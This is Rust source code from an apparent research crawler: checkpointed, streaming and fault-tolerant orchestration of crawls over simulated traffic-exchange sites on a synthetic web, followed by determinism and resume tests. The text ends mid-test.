                let mut chunks = chunks;
                chunks.sort_by_key(|c| (c.exchange_index, c.chunk_seq));
                let mut merged = RecordStore::new();
                for chunk in chunks {
                    merged.extend(chunk.records);
                }
                let label = format!("profile {} budget {chunk_budget}", profile.name);
                assert_eq!(merged.to_jsonl().unwrap(), one_shot.0, "{label}");
                assert_eq!(stats, one_shot.1, "{label}");
                assert_eq!(health, one_shot.2, "{label}");
            }
        }
    }

    #[test]
    fn from_body_rejects_malformed_input() {
        let no_cursor = CrawlCheckpointState::from_body(1, "{\"not\":\"a record\"}\n");
        let (line, detail) = no_cursor.unwrap_err();
        assert_eq!(line, 1);
        assert!(detail.contains("before any #cursor"), "{detail}");

        let empty = CrawlCheckpointState::from_body(1, "");
        assert!(empty.unwrap_err().1.contains("no cursors"));

        let bad_cursor = CrawlCheckpointState::from_body(1, "#cursor {broken\n");
        assert!(bad_cursor.unwrap_err().1.contains("bad cursor"));
    }
}
