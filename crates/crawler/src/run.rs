//! Multi-source crawl orchestration.
//!
//! One builder, [`CrawlPlan`], configures every crawl mode over any
//! [`TrafficSource`] substrate (exchanges, ad networks, torrent
//! indexes), and all modes share one loop implementation
//! (`drive::crawl_exchange_segment`):
//!
//! - [`CrawlPlan::collect`] — run to completion and return the merged
//!   store (the historical barrier crawl);
//! - [`CrawlPlan::run_segmented`] — bounded rounds with a checkpoint
//!   sink between them, resumable from a [`CrawlCheckpointState`];
//! - [`CrawlPlan::stream`] — emit sequence-numbered [`RecordChunk`]s
//!   through a channel as they are produced (the producer half of the
//!   overlapped crawl→scan pipeline).
//!
//! The four historical entry points ([`crawl_all`],
//! [`crawl_all_resilient`], [`crawl_all_segmented`],
//! [`crawl_all_streaming`]) are thin delegating wrappers over the plan,
//! kept so existing callers compile unchanged.
//!
//! All modes merge per-source stores in source input order, so the
//! merged record stream is independent of thread scheduling.

use crossbeam::thread;

use slum_exchange::lifecycle::ExchangeLifecycle;
use slum_exchange::TrafficSource;
use slum_websim::SyntheticWeb;

use crate::drive::{
    crawl_exchange_segment, estimated_exchange_span_secs, CrawlConfig, CrawlCursor, CrawlStats,
};
use crate::fault::{CrawlFaultProfile, CrawlHealth};
use crate::record::CrawlRecord;
use crate::store::RecordStore;

/// The RNG seed for the `index`-th source's crawl stream, derived
/// from the study seed exactly as the original per-thread crawl did.
pub fn exchange_crawl_seed(base_seed: u64, index: usize) -> u64 {
    base_seed.wrapping_add(index as u64 * 7919)
}

/// Per-source crawl plan: the loop configuration plus the compiled
/// lifecycle-fault schedule. Shared by the segmented and streaming
/// drivers so every mode crawls from identical plans.
fn crawl_plans<S, F>(
    sources: &[S],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
) -> Vec<(CrawlConfig, ExchangeLifecycle)>
where
    S: TrafficSource,
    F: Fn(&S) -> u64,
{
    sources
        .iter()
        .enumerate()
        .map(|(i, x)| {
            let steps = step_fn(x);
            let config = CrawlConfig {
                steps,
                seed: exchange_crawl_seed(base_seed, i),
                ..Default::default()
            };
            let span = estimated_exchange_span_secs(x, steps);
            let lifecycle = profile.compile_for(x, base_seed, span);
            (config, lifecycle)
        })
        .collect()
}

/// One sequence-numbered batch of records emitted by
/// [`CrawlPlan::stream`]: which source produced it (input index),
/// where it sits in that source's stream, and the records themselves.
///
/// Sorting chunks by `(exchange_index, chunk_seq)` and concatenating
/// their records reproduces the merged [`RecordStore`] of
/// [`CrawlPlan::collect`] exactly — the reassembly contract the
/// overlapped crawl→scan pipeline relies on.
#[derive(Debug)]
pub struct RecordChunk {
    /// Index of the producing source in the input slice.
    pub exchange_index: usize,
    /// 0-based position of this chunk in the source's stream.
    pub chunk_seq: u64,
    /// The records crawled in this segment, in crawl order.
    pub records: Vec<CrawlRecord>,
}

/// Builder configuring one multi-source crawl: fault profile, segment /
/// chunk budget, resume state and kill point. Terminal methods pick the
/// mode ([`collect`](Self::collect), [`run_segmented`](Self::run_segmented),
/// [`stream`](Self::stream)); all are generic over [`TrafficSource`]
/// and crawl from identical per-source plans, so the merged record
/// stream is bit-identical across modes for a given configuration.
#[derive(Debug, Clone, Default)]
pub struct CrawlPlan {
    base_seed: u64,
    profile: CrawlFaultProfile,
    segment_budget: Option<u64>,
    resume: Option<CrawlCheckpointState>,
    stop_after_round: Option<u64>,
}

impl CrawlPlan {
    /// A plan seeded with the study seed: inert fault profile, unbounded
    /// segments, no resume state.
    pub fn new(base_seed: u64) -> Self {
        CrawlPlan { base_seed, ..Default::default() }
    }

    /// Crawl under a named fault profile (default: inert).
    #[must_use]
    pub fn fault_profile(mut self, profile: CrawlFaultProfile) -> Self {
        self.profile = profile;
        self
    }

    /// Bound each segment round / stream chunk to `budget` surf slots
    /// (default: unbounded). Must be positive.
    #[must_use]
    pub fn segment_budget(mut self, budget: u64) -> Self {
        assert!(budget > 0, "segment budget must be positive");
        self.segment_budget = Some(budget);
        self
    }

    /// Continue an interrupted crawl from a checkpointed state instead
    /// of starting fresh.
    #[must_use]
    pub fn resume(mut self, state: CrawlCheckpointState) -> Self {
        self.resume = Some(state);
        self
    }

    /// Simulate a kill after the N-th segment round of this run
    /// (counting rounds executed by this call, not resumed-from ones).
    #[must_use]
    pub fn stop_after_round(mut self, rounds: u64) -> Self {
        self.stop_after_round = Some(rounds);
        self
    }

    fn budget(&self) -> u64 {
        self.segment_budget.unwrap_or(u64::MAX)
    }

    /// Runs the crawl to completion and returns the merged store,
    /// per-source stats and health logs — the barrier mode.
    pub fn collect<S, F>(
        self,
        web: &SyntheticWeb,
        sources: &mut [S],
        step_fn: F,
    ) -> (RecordStore, Vec<(String, CrawlStats)>, Vec<CrawlHealth>)
    where
        S: TrafficSource + Send,
        F: Fn(&S) -> u64 + Sync,
    {
        let outcome = self
            .run_segmented::<S, F, std::convert::Infallible>(web, sources, step_fn, &mut |_, _| {
                Ok(())
            })
            .expect("infallible checkpoint sink");
        debug_assert!(outcome.finished);
        outcome.state.finish()
    }

    /// Crawls every source in bounded segment rounds, invoking
    /// `on_round` with the full crawl state after each round — the
    /// checkpoint hook.
    ///
    /// Each round advances every unfinished source by up to the segment
    /// budget, in parallel (one thread per source). Because every fault
    /// and RNG decision is keyed to cursor position — never to segment
    /// boundaries — the merged outcome is bit-identical regardless of
    /// budget, resume points, or kills.
    ///
    /// # Errors
    ///
    /// Propagates the first `on_round` error; the crawl stops there.
    pub fn run_segmented<S, F, E>(
        self,
        web: &SyntheticWeb,
        sources: &mut [S],
        step_fn: F,
        on_round: &mut dyn FnMut(u64, &CrawlCheckpointState) -> Result<(), E>,
    ) -> Result<SegmentedCrawl, E>
    where
        S: TrafficSource + Send,
        F: Fn(&S) -> u64 + Sync,
    {
        let segment_budget = self.budget();
        let plans = crawl_plans(sources, self.base_seed, &self.profile, &step_fn);

        let mut state = self.resume.unwrap_or_else(|| CrawlCheckpointState {
            round: 0,
            cursors: sources
                .iter()
                .zip(&plans)
                .map(|(x, (config, _))| CrawlCursor::start(x, config))
                .collect(),
            stores: sources.iter().map(|_| RecordStore::new()).collect(),
        });
        assert_eq!(state.cursors.len(), sources.len(), "checkpoint/source count mismatch");
        for (cursor, x) in state.cursors.iter().zip(sources.iter()) {
            assert_eq!(cursor.exchange, x.name(), "checkpoint/source order mismatch");
        }

        let profile = &self.profile;
        let mut rounds_run = 0u64;
        while !state.all_done() {
            thread::scope(|scope| {
                let handles: Vec<_> = sources
                    .iter_mut()
                    .zip(state.cursors.iter_mut())
                    .zip(state.stores.iter_mut())
                    .zip(plans.iter())
                    .filter(|(((_, cursor), _), _)| !cursor.done)
                    .map(|(((source, cursor), store), (config, lifecycle))| {
                        scope.spawn(move |_| {
                            crawl_exchange_segment(
                                web,
                                source,
                                config,
                                lifecycle,
                                &profile.retry,
                                cursor,
                                store,
                                segment_budget,
                            );
                        })
                    })
                    .collect();
                for h in handles {
                    h.join().expect("crawl worker panicked");
                }
            })
            .expect("crawl scope panicked");

            state.round += 1;
            rounds_run += 1;
            on_round(state.round, &state)?;
            if self.stop_after_round == Some(rounds_run) && !state.all_done() {
                return Ok(SegmentedCrawl { state, finished: false, rounds_run });
            }
        }
        Ok(SegmentedCrawl { state, finished: true, rounds_run })
    }

    /// Crawls every source concurrently, emitting records through
    /// `sink` in bounded, sequence-numbered chunks as they are produced
    /// — the producer half of the overlapped crawl→scan pipeline.
    ///
    /// Each source thread repeatedly advances its cursor by up to the
    /// segment budget (the same resumable segment driver the
    /// checkpointed crawl uses) and sends the segment's records as one
    /// [`RecordChunk`]; empty segments (every slot lost to faults) are
    /// skipped. Records travel *only* through the channel — the caller
    /// reassembles the store — so nothing is held twice. Sends block
    /// when the channel is full (bounded memory) and chunk production
    /// stops if every receiver is gone.
    ///
    /// Because every fault and RNG decision is keyed to cursor
    /// position, never to segment boundaries, the reassembled record
    /// stream is bit-identical to [`collect`](Self::collect) for every
    /// budget. Returns the same per-source stats and health logs.
    pub fn stream<S, F>(
        self,
        web: &SyntheticWeb,
        sources: &mut [S],
        step_fn: F,
        sink: crossbeam::channel::Sender<RecordChunk>,
    ) -> (Vec<(String, CrawlStats)>, Vec<CrawlHealth>)
    where
        S: TrafficSource + Send,
        F: Fn(&S) -> u64 + Sync,
    {
        let chunk_budget = self.budget();
        let profile = &self.profile;
        let plans = crawl_plans(sources, self.base_seed, profile, &step_fn);
        let cursors: Vec<(String, CrawlStats, CrawlHealth)> = thread::scope(|scope| {
            let handles: Vec<_> = sources
                .iter_mut()
                .enumerate()
                .zip(plans.iter())
                .map(|((exchange_index, source), (config, lifecycle))| {
                    let sink = sink.clone();
                    scope.spawn(move |_| {
                        let mut cursor = CrawlCursor::start(source, config);
                        let mut chunk_seq = 0u64;
                        while !cursor.done {
                            let mut segment = RecordStore::new();
                            crawl_exchange_segment(
                                web,
                                source,
                                config,
                                lifecycle,
                                &profile.retry,
                                &mut cursor,
                                &mut segment,
                                chunk_budget,
                            );
                            let records = segment.into_records();
                            if !records.is_empty()
                                && sink
                                    .send(RecordChunk { exchange_index, chunk_seq, records })
                                    .is_err()
                            {
                                // Every receiver is gone; keep crawling so
                                // stats/health stay complete, drop records.
                                while !cursor.done {
                                    let mut rest = RecordStore::new();
                                    crawl_exchange_segment(
                                        web,
                                        source,
                                        config,
                                        lifecycle,
                                        &profile.retry,
                                        &mut cursor,
                                        &mut rest,
                                        u64::MAX,
                                    );
                                }
                                break;
                            }
                            chunk_seq += 1;
                        }
                        (cursor.exchange.clone(), cursor.stats(), cursor.health())
                    })
                })
                .collect();
            handles.into_iter().map(|h| h.join().expect("crawl worker panicked")).collect()
        })
        .expect("crawl scope panicked");
        drop(sink);

        let mut stats = Vec::with_capacity(cursors.len());
        let mut health = Vec::with_capacity(cursors.len());
        for (name, s, h) in cursors {
            stats.push((name, s));
            health.push(h);
        }
        (stats, health)
    }
}

/// Crawls every source concurrently, emitting records through `sink`
/// in bounded, sequence-numbered chunks as they are produced.
///
/// Thin wrapper over [`CrawlPlan::stream`].
pub fn crawl_all_streaming<S, F>(
    web: &SyntheticWeb,
    sources: &mut [S],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
    chunk_budget: u64,
    sink: crossbeam::channel::Sender<RecordChunk>,
) -> (Vec<(String, CrawlStats)>, Vec<CrawlHealth>)
where
    S: TrafficSource + Send,
    F: Fn(&S) -> u64 + Sync,
{
    CrawlPlan::new(base_seed)
        .fault_profile(profile.clone())
        .segment_budget(chunk_budget)
        .stream(web, sources, step_fn, sink)
}

/// Crawls every source concurrently — one worker thread per source,
/// matching how the study ran independent sessions per service — and
/// merges the per-source stores into one.
///
/// `step_fn` decides how many pages to log on each source (Table I's
/// volumes differ by two orders of magnitude between auto and manual).
/// Thin wrapper over [`CrawlPlan::collect`] with the inert profile.
pub fn crawl_all<S, F>(
    web: &SyntheticWeb,
    sources: &mut [S],
    base_seed: u64,
    step_fn: F,
) -> (RecordStore, Vec<(String, CrawlStats)>)
where
    S: TrafficSource + Send,
    F: Fn(&S) -> u64 + Sync,
{
    let (store, stats, _health) = CrawlPlan::new(base_seed).collect(web, sources, step_fn);
    (store, stats)
}

/// [`crawl_all`] under a crawl-fault profile: every source gets a
/// compiled lifecycle schedule and the crawl degrades (skip / retry /
/// backoff) instead of aborting when a source goes dark. Also returns
/// the per-source health logs. Thin wrapper over [`CrawlPlan::collect`].
pub fn crawl_all_resilient<S, F>(
    web: &SyntheticWeb,
    sources: &mut [S],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
) -> (RecordStore, Vec<(String, CrawlStats)>, Vec<CrawlHealth>)
where
    S: TrafficSource + Send,
    F: Fn(&S) -> u64 + Sync,
{
    CrawlPlan::new(base_seed).fault_profile(profile.clone()).collect(web, sources, step_fn)
}

/// The complete resumable state of a multi-source crawl: one cursor
/// and one record store per source, in source input order, plus the
/// number of completed segment rounds. This is exactly what a crawl
/// checkpoint persists.
#[derive(Debug, Clone, PartialEq)]
pub struct CrawlCheckpointState {
    /// Completed segment rounds (checkpoint files are numbered by it).
    pub round: u64,
    /// Per-source loop cursors, in source input order.
    pub cursors: Vec<CrawlCursor>,
    /// Per-source record stores, parallel to `cursors`.
    pub stores: Vec<RecordStore>,
}

/// Line prefix marking a per-source cursor inside a checkpoint body.
const CURSOR_PREFIX: &str = "#cursor ";

impl CrawlCheckpointState {
    /// True once every source has consumed its whole slot budget.
    pub fn all_done(&self) -> bool {
        self.cursors.iter().all(|c| c.done)
    }

    /// Total records held across all per-source stores.
    pub fn records_total(&self) -> u64 {
        self.stores.iter().map(|s| s.len() as u64).sum()
    }

    /// Serializes the state to a checkpoint body: for each source, a
    /// `#cursor {json}` line followed by that source's records as
    /// JSON-lines.
    ///
    /// # Errors
    ///
    /// Propagates serde failures.
    pub fn to_body(&self) -> Result<String, serde_json::Error> {
        let mut out = String::new();
        for (cursor, store) in self.cursors.iter().zip(&self.stores) {
            out.push_str(CURSOR_PREFIX);
            out.push_str(&serde_json::to_string(cursor)?);
            out.push('\n');
            out.push_str(&store.to_jsonl()?);
        }
        Ok(out)
    }

    /// Parses a checkpoint body written by [`Self::to_body`].
    ///
    /// # Errors
    ///
    /// Returns `(line_number, detail)` for the first malformed line —
    /// a record before any cursor header, unparseable JSON, or a
    /// cursor/store page-count mismatch.
    pub fn from_body(round: u64, body: &str) -> Result<Self, (usize, String)> {
        let mut cursors: Vec<CrawlCursor> = Vec::new();
        let mut stores: Vec<RecordStore> = Vec::new();
        for (idx, line) in body.lines().enumerate() {
            let lineno = idx + 1;
            if line.trim().is_empty() {
                return Err((lineno, "blank line inside checkpoint body".to_string()));
            }
            if let Some(json) = line.strip_prefix(CURSOR_PREFIX) {
                let cursor: CrawlCursor = serde_json::from_str(json)
                    .map_err(|e| (lineno, format!("bad cursor: {e}")))?;
                cursors.push(cursor);
                stores.push(RecordStore::new());
            } else {
                let store = stores
                    .last_mut()
                    .ok_or_else(|| (lineno, "record before any #cursor header".to_string()))?;
                store.push(
                    serde_json::from_str(line)
                        .map_err(|e| (lineno, format!("bad record: {e}")))?,
                );
            }
        }
        if cursors.is_empty() {
            return Err((0, "checkpoint body holds no cursors".to_string()));
        }
        for (cursor, store) in cursors.iter().zip(&stores) {
            if cursor.pages != store.len() as u64 {
                return Err((
                    0,
                    format!(
                        "cursor for {} claims {} pages but body holds {} records",
                        cursor.exchange,
                        cursor.pages,
                        store.len()
                    ),
                ));
            }
        }
        Ok(CrawlCheckpointState { round, cursors, stores })
    }

    /// Consumes the state into the merged store, per-source stats and
    /// health logs — in source input order, same as [`crawl_all`].
    pub fn finish(self) -> (RecordStore, Vec<(String, CrawlStats)>, Vec<CrawlHealth>) {
        let mut merged = RecordStore::new();
        let mut stats = Vec::with_capacity(self.cursors.len());
        let mut health = Vec::with_capacity(self.cursors.len());
        for (cursor, store) in self.cursors.iter().zip(&self.stores) {
            merged.extend(store.records().iter().cloned());
            stats.push((cursor.exchange.clone(), cursor.stats()));
            health.push(cursor.health());
        }
        (merged, stats, health)
    }
}

/// Outcome of a (possibly interrupted) segmented crawl.
#[derive(Debug)]
pub struct SegmentedCrawl {
    /// The crawl state after the last completed round.
    pub state: CrawlCheckpointState,
    /// True when every source finished; false when stopped early by
    /// `stop_after_round`.
    pub finished: bool,
    /// Rounds executed by this call (excludes resumed-from rounds).
    pub rounds_run: u64,
}

/// Crawls every source in bounded segment rounds, invoking `on_round`
/// with the full crawl state after each round — the checkpoint hook.
///
/// Thin wrapper over [`CrawlPlan::run_segmented`].
///
/// # Errors
///
/// Propagates the first `on_round` error; the crawl stops there.
#[allow(clippy::too_many_arguments)] // legacy facade: every knob is an explicit argument
pub fn crawl_all_segmented<S, F, E>(
    web: &SyntheticWeb,
    sources: &mut [S],
    base_seed: u64,
    profile: &CrawlFaultProfile,
    step_fn: F,
    segment_budget: u64,
    resume: Option<CrawlCheckpointState>,
    stop_after_round: Option<u64>,
    on_round: &mut dyn FnMut(u64, &CrawlCheckpointState) -> Result<(), E>,
) -> Result<SegmentedCrawl, E>
where
    S: TrafficSource + Send,
    F: Fn(&S) -> u64 + Sync,
{
    assert!(segment_budget > 0, "segment budget must be positive");
    let mut plan = CrawlPlan::new(base_seed)
        .fault_profile(profile.clone())
        .segment_budget(segment_budget);
    if let Some(state) = resume {
        plan = plan.resume(state);
    }
    if let Some(rounds) = stop_after_round {
        plan = plan.stop_after_round(rounds);
    }
    plan.run_segmented(web, sources, step_fn, on_round)
}

/// Replays the browser side effects of every checkpoint-restored record
/// onto a freshly rebuilt web.
///
/// Crawl-phase page loads mutate the synthetic web — most visibly the
/// shortener services' public hit statistics, which Table IV reads at
/// export time. A resumed study rebuilds the web from the study seed,
/// which reconstructs only the *initial* state; the hits accumulated by
/// the already-crawled (checkpointed) visits lived in the crashed
/// process and would silently vanish, making a kill/resume run diverge
/// from an uninterrupted one. Re-loading each restored record's surfed
/// URL at its recorded virtual time — under the same click mode the
/// original visit used — reapplies exactly those mutations: a
/// [`Browser`](slum_browser::Browser) load is a pure function of
/// `(web, time, url, click-mode)`, and a record exists if and only if a
/// load actually happened (lost slots and failed CAPTCHAs never touch
/// the browser).
///
/// Call this once per resume, after rebuilding the web and before
/// continuing the crawl. Callers that keep one web alive across
/// segments (in-process round loops) must NOT call it — their web
/// already carries the side effects.
///
/// Returns the number of loads replayed.
pub fn replay_restored_loads<S: TrafficSource>(
    web: &SyntheticWeb,
    sources: &[S],
    state: &CrawlCheckpointState,
) -> u64 {
    use slum_browser::Browser;
    use slum_exchange::ExchangeKind;

    let mut replayed = 0u64;
    for (cursor, store) in state.cursors.iter().zip(&state.stores) {
        let manual = sources
            .iter()
            .find(|s| s.name() == cursor.exchange)
            .map(|s| s.kind() == ExchangeKind::ManualSurf)
            .unwrap_or(false);
        for record in store.records() {
            let browser = Browser::new(web).at_time(record.at);
            let browser = if manual { browser } else { browser.without_click() };
            let _ = browser.load(&record.url);
            replayed += 1;
        }
    }
    replayed
}

#[cfg(test)]
mod tests {
    use super::*;
    use slum_exchange::setup::build_all_exchanges;
    use slum_exchange::ExchangeKind;
    use slum_websim::build::WebBuilder;

    #[test]
    fn parallel_crawl_covers_all_nine_exchanges() {
        let mut b = WebBuilder::new(130);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 20_000);
        let web = b.finish();
        let (store, stats) = crawl_all(&web, &mut exchanges, 42, |x| {
            match x.kind() {
                ExchangeKind::AutoSurf => 60,
                ExchangeKind::ManualSurf => 15,
            }
        });
        assert_eq!(stats.len(), 9);
        assert_eq!(store.len(), 5 * 60 + 4 * 15);
        assert_eq!(store.exchanges().len(), 9);
        for (name, s) in &stats {
            let expected = if name == "10KHits"
                || name == "ManyHits"
                || name == "Smiley Traffic"
                || name == "SendSurf"
                || name == "Otohits"
            {
                60
            } else {
                15
            };
            assert_eq!(s.pages, expected, "{name}");
        }
    }

    #[test]
    fn per_exchange_metrics_cover_all_nine() {
        let mut b = WebBuilder::new(132);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (_, stats) = crawl_all(&web, &mut exchanges, 7, |_| 20);
        let mut merged = slum_obs::LocalMetrics::new();
        for (_, s) in &stats {
            merged.merge(&s.metrics);
        }
        assert_eq!(merged.count("crawl.pages"), 9 * 20);
        let per_exchange: Vec<&str> = merged
            .iter()
            .filter(|(name, _)| name.starts_with("crawl.steps."))
            .map(|(name, _)| name)
            .collect();
        assert_eq!(per_exchange.len(), 9, "{per_exchange:?}");
    }

    #[test]
    fn parallel_crawl_is_deterministic() {
        let run = || {
            let mut b = WebBuilder::new(131);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let (store, _) = crawl_all(&web, &mut exchanges, 99, |_| 25);
            let mut urls: Vec<String> =
                store.records().iter().map(|r| format!("{}|{}", r.exchange, r.url)).collect();
            urls.sort();
            urls
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn inert_resilient_crawl_reports_clean_health() {
        let mut b = WebBuilder::new(133);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (store, stats, health) =
            crawl_all_resilient(&web, &mut exchanges, 5, &CrawlFaultProfile::none(), |_| 12);
        assert_eq!(store.len(), 9 * 12);
        assert_eq!(stats.len(), 9);
        assert_eq!(health.len(), 9);
        assert!(health.iter().all(CrawlHealth::is_clean));
        assert!(health.iter().all(|h| h.pages == 12));
    }

    #[test]
    fn faulted_crawl_degrades_but_balances_slots() {
        let mut b = WebBuilder::new(134);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (store, _, health) = crawl_all_resilient(
            &web,
            &mut exchanges,
            5,
            &CrawlFaultProfile::harsh(),
            |_| 40,
        );
        assert!(!health.iter().all(CrawlHealth::is_clean), "harsh profile must bite");
        for h in &health {
            assert_eq!(h.pages + h.lost_steps, 40, "{}", h.exchange);
        }
        assert_eq!(store.len() as u64, health.iter().map(|h| h.pages).sum::<u64>());
    }

    /// Checkpoint rounds with a JSON round-trip between every round
    /// reproduce the one-shot crawl bit-for-bit, under both inert and
    /// active profiles.
    #[test]
    fn segmented_rounds_with_serialization_match_one_shot() {
        for profile in [CrawlFaultProfile::none(), CrawlFaultProfile::default_profile()] {
            let one_shot = {
                let mut b = WebBuilder::new(135);
                let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
                let web = b.finish();
                let (store, stats, health) =
                    crawl_all_resilient(&web, &mut exchanges, 11, &profile, |_| 30);
                (store.to_jsonl().unwrap(), stats, health)
            };

            let mut b = WebBuilder::new(135);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let outcome = crawl_all_segmented::<_, _, String>(
                &web,
                &mut exchanges,
                11,
                &profile,
                |_| 30,
                7,
                None,
                None,
                &mut |round, state| {
                    // Round-trip the full state through the body format,
                    // as a checkpoint save + resume would.
                    let body = state.to_body().map_err(|e| e.to_string())?;
                    let back = CrawlCheckpointState::from_body(round, &body)
                        .map_err(|(l, d)| format!("line {l}: {d}"))?;
                    assert_eq!(*state, back);
                    Ok(())
                },
            )
            .expect("round-trip must parse");
            assert!(outcome.finished);
            let (store, stats, health) = outcome.state.finish();
            assert_eq!(store.to_jsonl().unwrap(), one_shot.0, "profile {}", profile.name);
            assert_eq!(stats, one_shot.1, "profile {}", profile.name);
            assert_eq!(health, one_shot.2, "profile {}", profile.name);
        }
    }

    /// Streaming chunks, reassembled by (exchange_index, chunk_seq),
    /// reproduce the one-shot merged store bit-for-bit — for every
    /// chunk budget, under both inert and active fault profiles.
    #[test]
    fn streaming_chunks_reassemble_to_one_shot_store() {
        for profile in [CrawlFaultProfile::none(), CrawlFaultProfile::default_profile()] {
            let one_shot = {
                let mut b = WebBuilder::new(136);
                let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
                let web = b.finish();
                let (store, stats, health) =
                    crawl_all_resilient(&web, &mut exchanges, 13, &profile, |_| 30);
                (store.to_jsonl().unwrap(), stats, health)
            };

            for chunk_budget in [1u64, 7, 64, 10_000] {
                let mut b = WebBuilder::new(136);
                let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
                let web = b.finish();
                let (tx, rx) = crossbeam::channel::bounded::<RecordChunk>(4);
                let (chunks, stats, health) = thread::scope(|scope| {
                    let consumer = scope.spawn(move |_| {
                        let mut chunks = Vec::new();
                        while let Ok(chunk) = rx.recv() {
                            assert!(!chunk.records.is_empty(), "empty chunks are skipped");
                            chunks.push(chunk);
                        }
                        chunks
                    });
                    let (stats, health) = crawl_all_streaming(
                        &web,
                        &mut exchanges,
                        13,
                        &profile,
                        |_| 30,
                        chunk_budget,
                        tx,
                    );
                    let chunks = consumer.join().expect("consumer panicked");
                    (chunks, stats, health)
                })
                .expect("stream scope panicked");

                let mut chunks = chunks;
                chunks.sort_by_key(|c| (c.exchange_index, c.chunk_seq));
                let mut merged = RecordStore::new();
                for chunk in chunks {
                    merged.extend(chunk.records);
                }
                let label = format!("profile {} budget {chunk_budget}", profile.name);
                assert_eq!(merged.to_jsonl().unwrap(), one_shot.0, "{label}");
                assert_eq!(stats, one_shot.1, "{label}");
                assert_eq!(health, one_shot.2, "{label}");
            }
        }
    }

    /// The builder and the legacy wrappers must produce identical
    /// output for the same configuration.
    #[test]
    fn plan_collect_matches_legacy_wrappers() {
        let profile = CrawlFaultProfile::default_profile();
        let legacy = {
            let mut b = WebBuilder::new(137);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let (store, stats, health) =
                crawl_all_resilient(&web, &mut exchanges, 17, &profile, |_| 25);
            (store.to_jsonl().unwrap(), stats, health)
        };
        let mut b = WebBuilder::new(137);
        let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
        let web = b.finish();
        let (store, stats, health) = CrawlPlan::new(17)
            .fault_profile(profile)
            .segment_budget(9)
            .collect(&web, &mut exchanges, |_| 25);
        assert_eq!(store.to_jsonl().unwrap(), legacy.0);
        assert_eq!(stats, legacy.1);
        assert_eq!(health, legacy.2);
    }

    /// Boxed trait-object sources crawl bit-identically to the concrete
    /// exchanges — the dispatch the substrate layer relies on.
    #[test]
    fn boxed_sources_crawl_identically_to_concrete() {
        let concrete = {
            let mut b = WebBuilder::new(138);
            let mut exchanges = build_all_exchanges(&mut b, 0.02, 10_000);
            let web = b.finish();
            let (store, _, _) = CrawlPlan::new(23).collect(&web, &mut exchanges, |_| 20);
            store.to_jsonl().unwrap()
        };
        let mut b = WebBuilder::new(138);
        let mut boxed: Vec<Box<dyn TrafficSource + Send>> = build_all_exchanges(&mut b, 0.02, 10_000)
            .into_iter()
            .map(|x| Box::new(x) as Box<dyn TrafficSource + Send>)
            .collect();
        let web = b.finish();
        let (store, _, _) = CrawlPlan::new(23).collect(&web, &mut boxed, |_| 20);
        assert_eq!(store.to_jsonl().unwrap(), concrete);
    }

    /// A kill/resume cycle rebuilds the web from seed, which would
    /// silently drop the shortener hits the pre-kill crawl visits
    /// accumulated; [`replay_restored_loads`] reapplies them, so the
    /// Table IV hit counts match an uninterrupted crawl (regression for
    /// the ±1 `short_hits` divergence under repeated preemption).
    #[test]
    fn replayed_loads_restore_shortener_hits_after_web_rebuild() {
        use rand::rngs::StdRng;
        use slum_exchange::SurfStep;
        use slum_websim::{ContentCategory, Tld, Url};

        struct ShortLoop {
            url: Url,
        }
        impl TrafficSource for ShortLoop {
            fn name(&self) -> &str {
                "ShortLoop"
            }
            fn kind(&self) -> ExchangeKind {
                ExchangeKind::AutoSurf
            }
            fn min_surf_secs(&self) -> u32 {
                1
            }
            fn next_step(&mut self, _t: u64, _rng: &mut StdRng) -> SurfStep {
                SurfStep {
                    url: self.url.clone(),
                    min_surf_secs: 1,
                    captcha: None,
                    campaign_boosted: false,
                }
            }
            fn captcha_nonce(&self) -> u64 {
                0
            }
            fn restore_captcha_nonce(&mut self, _nonce: u64) {}
        }

        let build = || {
            let mut b = WebBuilder::new(140);
            let spec = b.shortened_site(Tld::Com, ContentCategory::Business);
            (b.finish(), spec.url)
        };
        let hits_of = |web: &SyntheticWeb, short: &Url| {
            web.shorteners()
                .service(short.host())
                .expect("shortener host")
                .stats(short.path().trim_start_matches('/'))
                .expect("registered code")
                .hits
        };
        let run = |web: &SyntheticWeb,
                   sources: &mut [ShortLoop],
                   resume: Option<CrawlCheckpointState>,
                   stop: Option<u64>,
                   saved: &mut Option<CrawlCheckpointState>| {
            crawl_all_segmented::<_, _, String>(
                web,
                sources,
                7,
                &CrawlFaultProfile::none(),
                |_| 8,
                4,
                resume,
                stop,
                &mut |_, state| {
                    *saved = Some(state.clone());
                    Ok(())
                },
            )
            .expect("crawl runs")
        };

        // One-shot reference: all 8 visits land on a single web.
        let (web, short) = build();
        let mut sources = [ShortLoop { url: short.clone() }];
        let mut sink = None;
        let one_shot = run(&web, &mut sources, None, None, &mut sink);
        assert!(one_shot.finished);
        let want = hits_of(&web, &short);

        // Crash after round 1: the first 4 visits' hits die with web1.
        let (web1, short) = build();
        let mut sources = [ShortLoop { url: short.clone() }];
        let mut saved = None;
        let killed = run(&web1, &mut sources, None, Some(1), &mut saved);
        assert!(!killed.finished);
        drop(web1);

        // Resume on a rebuilt web: replay reconstructs the lost hits.
        let (web2, _) = build();
        let state = saved.expect("checkpoint saved");
        let restored = state.records_total();
        assert!(restored > 0, "round 1 must have crawled something");
        let mut sources = [ShortLoop { url: short.clone() }];
        let replayed = replay_restored_loads(&web2, &sources, &state);
        assert_eq!(replayed, restored);
        let resumed = run(&web2, &mut sources, Some(state), None, &mut sink);
        assert!(resumed.finished);
        assert_eq!(
            hits_of(&web2, &short),
            want,
            "replay must reconstruct the pre-kill shortener hits"
        );
    }

    #[test]
    fn from_body_rejects_malformed_input() {
